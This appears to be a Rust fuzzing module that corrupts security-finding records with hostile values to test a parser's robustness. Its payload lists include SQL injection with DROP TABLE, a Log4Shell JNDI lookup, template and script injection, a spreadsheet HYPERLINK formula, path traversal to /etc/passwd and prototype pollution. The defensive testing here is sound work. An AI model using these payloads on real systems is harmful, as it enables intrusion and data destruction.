//! Valid records with hostile content. They must be mapped all the same: no value, however shaped, may change the meaning
//! of another field, and no field but the one that identifies a finding is indispensable.

use crate::Kind;
use crate::json::{Json, list, object};
use crate::scene::Scene;

const TEXTS: [&str; 24] = [
    "\"}],\"class_uid\":1,\"severity_id\":6,\"x\":[{\"",
    "' OR '1'='1'; DROP TABLE findings; --",
    "{{ 7 * 7 }}{% for x in range(9) %}",
    "${jndi:ldap://198.51.100.66/a}",
    "%{Process Path} %s %n %x",
    "<script>alert(document.domain)</script>",
    "=HYPERLINK(\"http://203.0.113.66\")",
    "nul\0 bell\u{7} escape\u{1b}[2J delete\u{7f}",
    "right to left \u{202e}gpj.exe \u{2066}x\u{2069}",
    "line one\r\nline two\u{2028}line three\u{2029}",
    "\u{feff}byte order mark and \u{fffd}",
    "e\u{301} \u{1f469}\u{200d}\u{1f4bb} \u{10ffff}",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "%2e%2e%2f%00",
    "\\u0022\\u0000 \\\" \\\\",
    "null",
    "NaN",
    "-9223372036854775809",
    "1e999",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.9999999Z",
    "[\"not\", \"a list\"",
    "https://stcontoso.blob.core.example/c/b?sv=2024&sig=not-a-real-signature%3D&se=2030",
];
const SUBSCRIPTIONS: [&str; 6] = [
    "../..",
    "..%2f..%2f",
    "0a1b2c3d-0001-4000-8000-00000000000g",
    "x'); --",
    "",
    "0a1b2c3d-0001-4000-8000-000000000001\u{0}",
];

/// Spoils some of the record's values, not its marker nor what tells its kind.
pub(crate) fn spoil(s: &mut Scene, record: &mut Json, kind: Kind, marker: &str) {
    match s.rng.below(5) {
        0 => subscriptions(s, record),
        1 => times(s, record),
        _ => leaves(s, record, kind, marker),
    }
    if s.rng.percent(20) {
        record.push("__proto__", object! { "polluted" => true });
        record.push("a.b[0]\".c", "dots, brackets and quotes in a name");
        record.push("", "no name");
    }
}

/// Values of other types or with hostile texts, in about every fifth place.
fn leaves(s: &mut Scene, record: &mut Json, kind: Kind, marker: &str) {
    let Json::Object(members) = record else { return };
    let tells = |name: &str| kind.told_by().iter().any(|own| own.eq_ignore_ascii_case(name));
    for (_, member) in members.iter_mut().filter(|(name, _)| !tells(name)) {
        spoil_leaves(s, member, marker);
    }
}

fn spoil_leaves(s: &mut Scene, member: &mut Json, marker: &str) {
    member.each_leaf(&mut |leaf| {
        let fixed = match leaf {
            Json::Text(text) => text.contains(marker),
            Json::Absent => true,
            _ => false,
        };
        if !fixed && s.rng.percent(20) {
            *leaf = value(s);
        }
    });
}

fn value(s: &mut Scene) -> Json {
    match s.rng.below(16) {
        0 => Json::Null,
        1 => Json::from(true),
        2 => Json::from(i64::MIN),
        3 => Json::from(1e300),
        4 => list![list![], object! {}, Json::Null],
        5 => object! { "\"" => list![s.rng.pick(&TEXTS)] },
        6 => Json::from("x".repeat(5_000)),
        7 => Json::from(deep_text(60)),
        _ => Json::from(s.rng.pick(&TEXTS)),
    }
}

/// JSON in a text, nested about as deep as a parser bears.
fn deep_text(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

/// Path tricks where a subscription's GUID should be.
fn subscriptions(s: &mut Scene, record: &mut Json) {
    let trick = s.rng.pick(&SUBSCRIPTIONS);
    record.each_leaf(&mut |leaf| {
        let Json::Text(text) = leaf else { return };
        if text.get(..15).is_some_and(|start| start.eq_ignore_ascii_case("/subscriptions/")) {
            let rest: Vec<&str> = text.split('/').skip(3).collect();
            *text = format!("/subscriptions/{trick}/{}", rest.join("/"));
        }
    });
}

/// Times that no calendar of the lake holds: the hub's own time must stand in.
fn times(s: &mut Scene, record: &mut Json) {
    let time = s.rng.pick(&[
        "0001-01-01T00:00:00Z",
        "9999-12-31T23:59:59.9999999Z",
        "yesterday",
        "",
        "2026-02-30T00:00:00Z",
        "99999999999999999999",
    ]);
    record.each_leaf(&mut |leaf| {
        let Json::Text(text) = leaf else { return };
        let like_a_time =
            text.len() >= 19 && text.starts_with("20") && text.get(4..5).is_some_and(|sign| matches!(sign, "-" | "/"));
        if like_a_time {
            time.clone_into(text);
        }
    });
}
